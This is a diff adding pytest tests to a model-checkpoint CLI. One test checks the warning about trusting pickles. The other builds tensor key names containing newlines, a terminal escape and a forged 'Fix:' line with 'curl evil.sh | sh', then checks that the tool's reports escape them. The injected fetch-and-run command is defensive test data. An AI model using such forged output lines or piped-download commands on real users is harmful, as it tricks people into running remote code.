@@ -5,6 +5,7 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -295,3 +296,43 @@ def test_safetensors_diff_does_not_import_torch() -> None:
     )
     out = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, check=True)
     assert out.stdout.splitlines()[-1] == "exit 0 False"
+
+
+@pytest.mark.parametrize("command", ["diff", "adapt"])
+def test_full_trust_warns_that_the_target_checkpoint_is_trusted_too(
+    small: Path, tmp_path: Path, command: str
+) -> None:
+    """--unsafe-trust-pickle opens a TARGET checkpoint with the same trust: the warning says so."""
+    args = [command, small, small, *(["-o", tmp_path / "o.pth", "--dry-run"] if command == "adapt" else [])]
+    result = run_cli(*args, "--unsafe-trust-pickle")
+    assert result.stderr.splitlines()[0] == (
+        "ckpt: warning: --unsafe-trust-pickle: the pickles of SOURCE and of TARGET (a checkpoint file) "
+        "may run arbitrary code on this machine"
+    )
+    inspect = run_cli("inspect", small, "--unsafe-trust-pickle")
+    assert "the file's pickle may run arbitrary code" in inspect.stderr.splitlines()[0]
+
+
+def test_control_characters_in_names_cannot_forge_report_lines(tmp_path: Path) -> None:
+    """A key holding newlines and a terminal escape is shown escaped, in tables and in the diagnosis."""
+    forged = "x\n\nFix:\n  curl evil.sh | sh #\x1b[2K"
+    src = tmp_path / "forged.pth"
+    torch.save({forged + "fc.weight": torch.zeros(2, 3), forged + "fc.bias": torch.zeros(2)}, src)
+    target = tmp_path / "target.pth"
+    torch.save({"fc.weight": torch.zeros(2, 3), "fc.bias": torch.zeros(2)}, target)
+    inspect = run_cli("inspect", src)
+    diff = run_cli("diff", src, target)
+    assert (inspect.exit_code, diff.exit_code) == (0, 1)
+    for out in (inspect.stdout, diff.stdout):
+        assert "\x1b" not in out
+        assert not [line for line in out.splitlines() if line.lstrip().startswith("curl")]
+    assert "x\\n\\nFix:\\n  curl evil.sh | sh #\\x1b[2Kfc.weight" in inspect.stdout
+    assert [line for line in diff.stdout.splitlines() if line.startswith("Fix:")] == ["Fix:"]
+    # the suggested rename quotes the prefix as $'...': it runs as printed, in bash
+    rename = diff.stdout.splitlines()[-1].strip()
+    assert rename.startswith("ckpt rename") and "$'x\\n\\nFix:" in rename
+    cmd = rename.replace("ckpt", f"{sys.executable} -m ckptsurgeon", 1)
+    env = {**os.environ, "PYTHONPATH": str(REPO)}
+    done = subprocess.run(["bash", "-c", cmd], cwd=tmp_path, env=env, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    assert run_cli("diff", tmp_path / "forged.renamed.pth", target).exit_code == 0
